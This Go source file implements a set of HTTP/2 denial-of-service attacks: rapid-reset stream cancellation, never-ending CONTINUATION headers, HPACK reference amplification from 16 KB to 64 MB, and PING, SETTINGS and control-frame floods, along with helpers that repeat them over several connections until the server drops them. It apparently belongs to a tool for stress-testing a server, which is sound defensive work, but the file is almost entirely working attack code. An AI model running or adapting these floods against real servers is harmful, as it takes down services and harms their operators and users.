package main

import (
	"bytes"
	"context"
	"errors"
	"math/rand/v2"

	"golang.org/x/net/http2"
)

// Floods of frames, as fast as the server accepts them.
var frameAttacks = []attack{
	{
		name: "rapid-reset", summary: "4 connections that start calls and cancel each at once", short: true,
		run: flood(4, func(l *link) error {
			id, err := l.open(call{path: checkPath})
			if err != nil {
				return err
			}
			return l.framer.WriteRSTStream(id, http2.ErrCodeCancel)
		}),
	},
	{
		name: "continuation", summary: "4 connections whose headers never end", short: true,
		run: flood(4, func(l *link) error {
			if l.next == 1 {
				l.next += 2
				return l.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: l.headers(checkPath, "")})
			}
			return l.framer.WriteContinuation(1, false, []byte{0x00, 0x01, 'a', 0x01, 'b'})
		}),
	},
	{
		name: "hpack-references", summary: "4 connections with headers of 16 KB that expand to 64 MB",
		run: flood(4, func(l *link) error {
			id := l.next
			l.next += 2
			block := append(bytes.Clone(l.headers(checkPath, "")), 0x40, 0x01, 'x', 0x7f, 0xa1, 0x1e) // a value of 4,000 bytes
			block = append(block, bytes.Repeat([]byte{'v'}, 4000)...)
			block = append(block, bytes.Repeat([]byte{0xbe}, 12_000)...) // the newest entry of the table
			return l.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true})
		}),
	},
	{
		name: "pings", summary: "4 connections of PING frames",
		run: flood(4, func(l *link) error { return l.framer.WritePing(false, [8]byte{}) }),
	},
	{
		name: "settings", summary: "4 connections of SETTINGS frames",
		run: flood(4, func(l *link) error {
			return l.framer.WriteSettings(window(1 << 16))
		}),
	},
	{
		name: "settings-calls", summary: "4 connections of SETTINGS frames that change the windows of 1,000 reads each",
		prepare: fillSmall,
		run: func(ctx context.Context, a *attacker) error {
			return floodAfter(4, 1000, call{path: readPath, key: a.Key, message: []byte{}}, func(l *link) error {
				return l.framer.WriteSettings(window(rand.Uint32N(16)))
			})(ctx, a)
		},
	},
	{
		name: "control-frames", summary: "4 connections of other frames that cost the sender nothing",
		run: flood(4, func(l *link) error {
			l.framer.WriteWindowUpdate(0, 1)
			l.framer.WritePriority(1, http2.PriorityParam{Weight: 1})
			l.framer.WriteRawFrame(0xbb, 0, 0, nil)
			return l.framer.WriteRawFrame(http2.FrameData, 0, 1, nil)
		}),
	},
}

// window returns the setting of the initial window of each call.
func window(bytes uint32) http2.Setting {
	return http2.Setting{ID: http2.SettingInitialWindowSize, Val: bytes}
}

// flood returns an attack that writes frames on connections until the server closes
// them.
func flood(connections int, frames func(*link) error) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return a.repeat(ctx, connections, func(ctx context.Context) error {
			l, err := a.link(ctx)
			if err != nil {
				return err
			}
			return l.flood(ctx, a, frames)
		})
	}
}

// floodAfter is like flood on connections that have made calls with a window of 0.
func floodAfter(connections, calls int, c call, frames func(*link) error) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return a.repeat(ctx, connections, func(ctx context.Context) error {
			l, err := a.link(ctx, window(0))
			if err != nil {
				return err
			}
			err = l.write(func() (err error) {
				for i := 0; i < calls && err == nil; i++ {
					_, err = l.open(c)
				}
				return err
			})
			return errors.Join(err, l.flood(ctx, a, frames))
		})
	}
}

// flood writes frames until the server closes the connection, and closes the link.
func (l *link) flood(ctx context.Context, a *attacker, frames func(*link) error) error {
	defer l.close()
	defer context.AfterFunc(ctx, l.close)()
	for l.next < most {
		err := l.write(func() (err error) {
			for i := 0; i < 100 && err == nil; i++ {
				err = frames(l)
			}
			return err
		})
		if err != nil {
			return err
		}
		a.tally.count("hundreds of frames")
	}
	return nil
}
